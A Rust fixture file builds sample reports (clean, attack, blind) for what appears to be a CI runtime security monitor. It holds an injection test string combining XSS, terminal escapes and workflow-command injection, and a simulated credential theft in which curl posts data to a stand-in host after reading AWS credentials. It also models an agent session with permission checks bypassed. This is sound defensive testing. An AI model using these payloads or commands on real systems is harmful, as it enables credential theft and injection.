//! Three runs to report on: clean, with findings, and without sight.

use crate::detections::Detection;
use crate::event::{
    Level, Owner, Permission, ProcessKey, Reach, Scope, Setting, Socket, Timestamp, Transport,
};
use crate::finding::{
    CallReport, CallState, Confidence, Counts, Coverage, CoverageState, Destination, Disposition, Drift,
    ExitView, FailOn, Finding, Kind, Needs, PermissionReport, Posture, ProcessView, Report, RuleId,
    SessionReport, Severity, StepReport, Suppressed, Technique, Verdict, Weakness,
};
use crate::job::{Job, Location, Provider, Step, StepKey};
use crate::picture::Picture;

/// Everything a path can hold that some reader takes for an order.
pub const HOSTILE: &str = "/tmp/a`b`|<img src=x onerror=alert(1)>\u{1b}[31m*x*_y_[l](https://evil.example)\n::error::owned\r##[command]x]]>\u{0}\u{fffe}\u{202e}</details>@everyone ${{ x }}";

const NOON: u64 = 1_767_268_800_000_000_000;

pub static CRED_FILE_ACCESS: Detection = Detection {
    id: RuleId("cred-file-access"),
    severity: Severity::High,
    confidence: Confidence::Medium,
    techniques: &[Technique("T1552.001"), Technique("T1041")],
    references: &["GHSA-cxm3-wv7p-598c"],
    frameworks: &["CICD-SEC-6"],
    remedy: "Give the credential only to the step that needs it.",
    source: "//! A process reads a credential file that is not its own.\n//!\n//! ## Why it matters\n//! A compromised dependency sends\n//! the token away within seconds.\n//!\n//! ## What to do\n//! Give the credential only to the step that needs it.\nuse x;\n",
    check: |_| Vec::new(),
};

pub static EGRESS_UNDECLARED: Detection = Detection {
    id: RuleId("egress-undeclared"),
    severity: Severity::Low,
    confidence: Confidence::Medium,
    techniques: &[Technique("T1071")],
    references: &[],
    frameworks: &[],
    remedy: "Allow the destination in the policy, or find out who wants it.",
    source: "//! A step talks to a destination that nothing declares.\n",
    check: |_| Vec::new(),
};

pub static PERSISTENCE: Detection = Detection {
    id: RuleId("persistence"),
    severity: Severity::Critical,
    confidence: Confidence::High,
    techniques: &[Technique("T1546")],
    references: &[],
    frameworks: &["CICD-SEC-7"],
    remedy: "Remove the entry.",
    source: "//! A step leaves something that runs after it.\n",
    check: |_| Vec::new(),
};

pub const RULES: [&Detection; 3] = [&CRED_FILE_ACCESS, &EGRESS_UNDECLARED, &PERSISTENCE];

pub fn clean() -> Report {
    let mut install = step("build/install", "npm ci");
    install.processes = 1_170;
    install.events = Counts { process: 3_512, file: 48_219, egress: 12 };
    install.destinations = vec![Destination {
        host: "registry.example:443".to_owned(),
        program: "node".to_owned(),
        explained: Some("`npm ci` talks to its registry".to_owned()),
        carried: Some((2048, 1_048_576)),
    }];
    let mut test = step("build/test", "npm test");
    test.processes = 33;
    test.location = Some(Location { path: ".github/workflows/ci.yml".to_owned(), line: 14 });
    let mut tool = step("build/tool", "");
    tool.processes = 1;
    tool.compared = false;
    Report {
        job: Job {
            provider: Provider::Local,
            name: "build".to_owned(),
            workspace: "/home/runner/work/app".to_owned(),
            home: "/home/runner".to_owned(),
            uid: 1001,
            pipeline: None,
            steps: [&install, &test, &tool]
                .map(|step| Step {
                    key: step.key.clone(),
                    name: step.name.clone(),
                    declared: step.declared.clone(),
                    location: step.location.clone(),
                })
                .to_vec(),
        },
        verdict: Verdict::Clean,
        exit: ExitView { guard: 0, command: Some(0), signal: None },
        mode: "audit",
        fail_on: FailOn::From(Severity::High),
        coverage: Coverage {
            state: CoverageState::Full,
            sensor: "ebpf".to_owned(),
            tier: "T2 (tracepoints and cgroup hooks)".to_owned(),
            since: Timestamp(NOON),
            process: Reach::Full,
            file: Reach::Full,
            egress: Reach::Full,
            agents: Vec::new(),
            lost_events: 0,
            gaps: Vec::new(),
            limits: vec![
                "reads through io_uring are known by their path only".to_owned(),
                "descriptors received over a socket".to_owned(),
            ],
        },
        steps: vec![install, test, tool],
        findings: Vec::new(),
        sessions: Vec::new(),
        posture: None,
        picture: Picture::default(),
        suppressed: Vec::new(),
        policy: None,
        notices: vec![
            "No policy file: this run was compared with what its steps declare.".to_owned(),
            "A policy from this run, which rests on 1 run:\nversion: 1\nsteps:\n  \"build/install\":\n    network: {allow: [\"registry.example:443\"]}".to_owned(),
        ],
        sockets_before: Vec::new(),
        started: Timestamp(NOON),
        ended: Timestamp(NOON + 42_700_000_000),
    }
}

#[expect(clippy::too_many_lines, reason = "one of everything")]
pub fn findings() -> Report {
    let mut report = clean();
    report.verdict = Verdict::Attack;
    report.exit = ExitView { guard: 86, command: Some(0), signal: None };
    report.fail_on = FailOn::From(Severity::Medium);
    report.policy = Some(".github/guard.yml".to_owned());
    report.notices = vec![format!("The policy names a step never seen: {HOSTILE}")];
    report.coverage.agents = vec!["claude-code".to_owned()];
    let call = |call: &str, text: &str, state, unexplained| CallReport {
        call: call.to_owned(),
        time: Timestamp(NOON),
        tool: "Bash".to_owned(),
        text: Some(text.to_owned()),
        state,
        tied_by: (state == CallState::Run).then_some("the exact text"),
        unexplained,
    };
    report.sessions = vec![SessionReport {
        agent: "claude-code".to_owned(),
        title: "Claude Code".to_owned(),
        session: "1d2c".to_owned(),
        version: Some("2.1.330".to_owned()),
        mode: Some("bypassPermissions".to_owned()),
        unasked: true,
        flag: Some("--dangerously-skip-permissions".to_owned()),
        permissions: vec![PermissionReport {
            level: Level::Project,
            file: ".claude/settings.json".to_owned(),
            settings: vec![
                Setting {
                    line: 3,
                    what: Permission::Mode { text: "bypassPermissions".into(), unasked: true },
                },
                Setting {
                    line: 4,
                    what: Permission::Deny {
                        text: HOSTILE.to_owned(),
                        scope: Scope::Host("x.example".into()),
                    },
                },
                Setting {
                    line: 6,
                    what: Permission::Hook { event: HOSTILE.to_owned(), command: "a".into(), own: false },
                },
            ],
            problem: None,
        }],
        calls: 3,
        commands: 3,
        run: 1,
        refused: 1,
        explained: 1,
        unexplained: 2,
        unrecorded: 1,
        timeline: vec![
            call("toolu_1", "make build", CallState::Run, 2),
            call("toolu_2", HOSTILE, CallState::Refused, 0),
            call(HOSTILE, "make test", CallState::Asked, 0),
        ],
    }];
    report.coverage.state = CoverageState::Partial;
    report.coverage.lost_events = 1_234;
    report.steps[1].destinations = vec![
        Destination {
            host: "203.0.113.7:443".to_owned(),
            program: "curl".to_owned(),
            explained: None,
            carried: None,
        },
        Destination {
            host: format!("{HOSTILE}:443"),
            program: HOSTILE.to_owned(),
            explained: None,
            carried: None,
        },
    ];
    report.findings = vec![
        Finding {
            title: "a package's install script read ~/.aws/credentials and then connected to 203.0.113.7, which nothing in this step explains".to_owned(),
            object: "/home/runner/.aws/credentials".to_owned(),
            declared: Some("`npm test` at .github/workflows/ci.yml:14".to_owned()),
            location: Some(Location { path: ".github/workflows/ci.yml".to_owned(), line: 14 }),
            silence: "# .github/guard.yml\nexcept:\n  - {rule: cred-file-access, step: \"build/test\", object: \"~/.aws/credentials\", reason: \"…\"}".to_owned(),
            ..finding("cred-file-access", Kind::Attack, Severity::Critical)
        },
        Finding {
            title: format!("wrote {HOSTILE}"),
            object: HOSTILE.to_owned(),
            more_objects: vec![HOSTILE.to_owned(), "/tmp/b".to_owned()],
            count: 1_002,
            declared: Some(HOSTILE.to_owned()),
            agent: Some("claude-code".to_owned()),
            tool_call: Some(HOSTILE.to_owned()),
            process: Some(process(105, &format!("/tmp/{HOSTILE}"), &["sh", "-c", HOSTILE])),
            silence: format!("steps:\n  \"{HOSTILE}\": {{}}\n```\n</details>\n::warning::x"),
            fingerprint: "b".repeat(32),
            ..finding("persistence", Kind::Policy, Severity::High)
        },
        Finding {
            title: "curl talked to telemetry.example.com:443, which nothing declares".to_owned(),
            object: "telemetry.example.com:443".to_owned(),
            declared: None,
            fails: false,
            fingerprint: "c".repeat(32),
            silence: String::new(),
            ..finding("egress-undeclared", Kind::Divergence, Severity::Low)
        },
        Finding {
            title: "1,234 file records were lost".to_owned(),
            object: "file records".to_owned(),
            step: StepKey::unattributed(),
            process: None,
            ancestry: Vec::new(),
            declared: None,
            techniques: Vec::new(),
            fails: false,
            fingerprint: "d".repeat(32),
            silence: String::new(),
            ..finding("coverage-lost", Kind::Coverage, Severity::Low)
        },
    ];
    report.sockets_before = vec![
        socket("10.1.2.3:41822", Some("198.51.100.2:443"), &["dockerd"]),
        socket("127.0.0.1:40001", Some("127.0.0.1:40002"), &[HOSTILE]),
        socket("[::]:22", None, &[]),
    ];
    report.posture = Some(Posture {
        checks: 30,
        weak: vec![Weakness {
            check: "docker-socket".to_owned(),
            title: "a container engine that makes its users root".to_owned(),
            severity: Severity::Medium,
            object: "/var/run/docker.sock".to_owned(),
            value: "socket 660 0:999".to_owned(),
        }],
        drift: vec![
            Drift {
                check: "hosts".to_owned(),
                object: "/etc/hosts".to_owned(),
                how: "changed",
                by: Some("tee".to_owned()),
                step: Some(StepKey::local()),
                explained: Some("build.sh:3".to_owned()),
            },
            Drift {
                check: "sudoers".to_owned(),
                object: format!("/etc/sudoers.d/{HOSTILE}"),
                how: "added",
                by: None,
                step: None,
                explained: None,
            },
        ],
    });
    report.suppressed = vec![Suppressed {
        rule: "egress-undeclared".to_owned(),
        object: "sentry.example:443".to_owned(),
        step: StepKey("build/test".to_owned()),
        reason: "vendor ticket 12".to_owned(),
        until: Some("2027-01-31".to_owned()),
        count: 3,
    }];
    report
}

fn socket(local: &str, remote: Option<&str>, owners: &[&str]) -> Socket {
    let owner = |(number, program): (u32, &&str)| Owner { pid: 800 + number, program: (*program).to_owned() };
    Socket {
        transport: Transport::Tcp,
        local: local.parse().expect("an address"),
        remote: remote.map(|remote| remote.parse().expect("an address")),
        uid: 0,
        owners: (0..).zip(owners).map(owner).collect(),
    }
}

pub fn blind() -> Report {
    let mut report = clean();
    report.verdict = Verdict::Blind;
    report.exit = ExitView { guard: 125, command: None, signal: Some(9) };
    report.coverage = Coverage {
        state: CoverageState::Blind,
        sensor: "ebpf".to_owned(),
        tier: "none".to_owned(),
        process: Reach::None,
        file: Reach::None,
        egress: Reach::Polled,
        gaps: vec![
            "this kernel refuses BPF programs: run as root, or with CAP_BPF and CAP_PERFMON".to_owned(),
        ],
        ..report.coverage
    };
    report.steps = vec![StepReport { key: StepKey::local(), ..step("local/run", "make test") }];
    report.steps[0].processes = 0;
    report.notices = Vec::new();
    report
}

pub fn step(key: &str, declared: &str) -> StepReport {
    StepReport {
        key: StepKey(key.to_owned()),
        name: key.rsplit('/').next().unwrap_or(key).to_owned(),
        declared: declared.to_owned(),
        location: None,
        events: Counts::default(),
        processes: 7,
        destinations: Vec::new(),
        compared: true,
        needs: Needs::default(),
    }
}

fn finding(rule: &'static str, kind: Kind, severity: Severity) -> Finding {
    Finding {
        rule: RuleId(rule),
        kind,
        severity,
        confidence: Confidence::High,
        fails: true,
        title: String::new(),
        step: StepKey("build/test".to_owned()),
        agent: None,
        tool_call: None,
        process: Some(process(104, "/usr/bin/curl", &["curl", "-s", "-d", "@-", "https://203.0.113.7/"])),
        ancestry: vec![
            process(103, "/usr/bin/node", &["node", "install.js"]),
            process(102, "/usr/bin/sh", &["sh", "-c", "node install.js"]),
            process(101, "/usr/bin/npm", &["npm", "test"]),
        ],
        object: String::new(),
        more_objects: Vec::new(),
        disposition: Disposition::Detected,
        declared: None,
        techniques: vec![Technique("T1552.001")],
        references: vec!["GHSA-cxm3-wv7p-598c"],
        evidence: vec![12, 13],
        first_seen: Timestamp(NOON + 1_000_000_000),
        reported_at: Timestamp(NOON + 1_250_000_000),
        count: 1,
        location: None,
        fingerprint: "a".repeat(32),
        remedy: "Give the credential only to the step that needs it.".to_owned(),
        silence: String::new(),
    }
}

fn process(pid: u32, executable: &str, arguments: &[&str]) -> ProcessView {
    ProcessView {
        key: ProcessKey { pid, start: u64::from(pid) * 1000 },
        name: executable.rsplit('/').next().unwrap_or_default().to_owned(),
        executable: executable.to_owned(),
        arguments: arguments.iter().map(|argument| (*argument).to_owned()).collect(),
        sha256: None,
    }
}
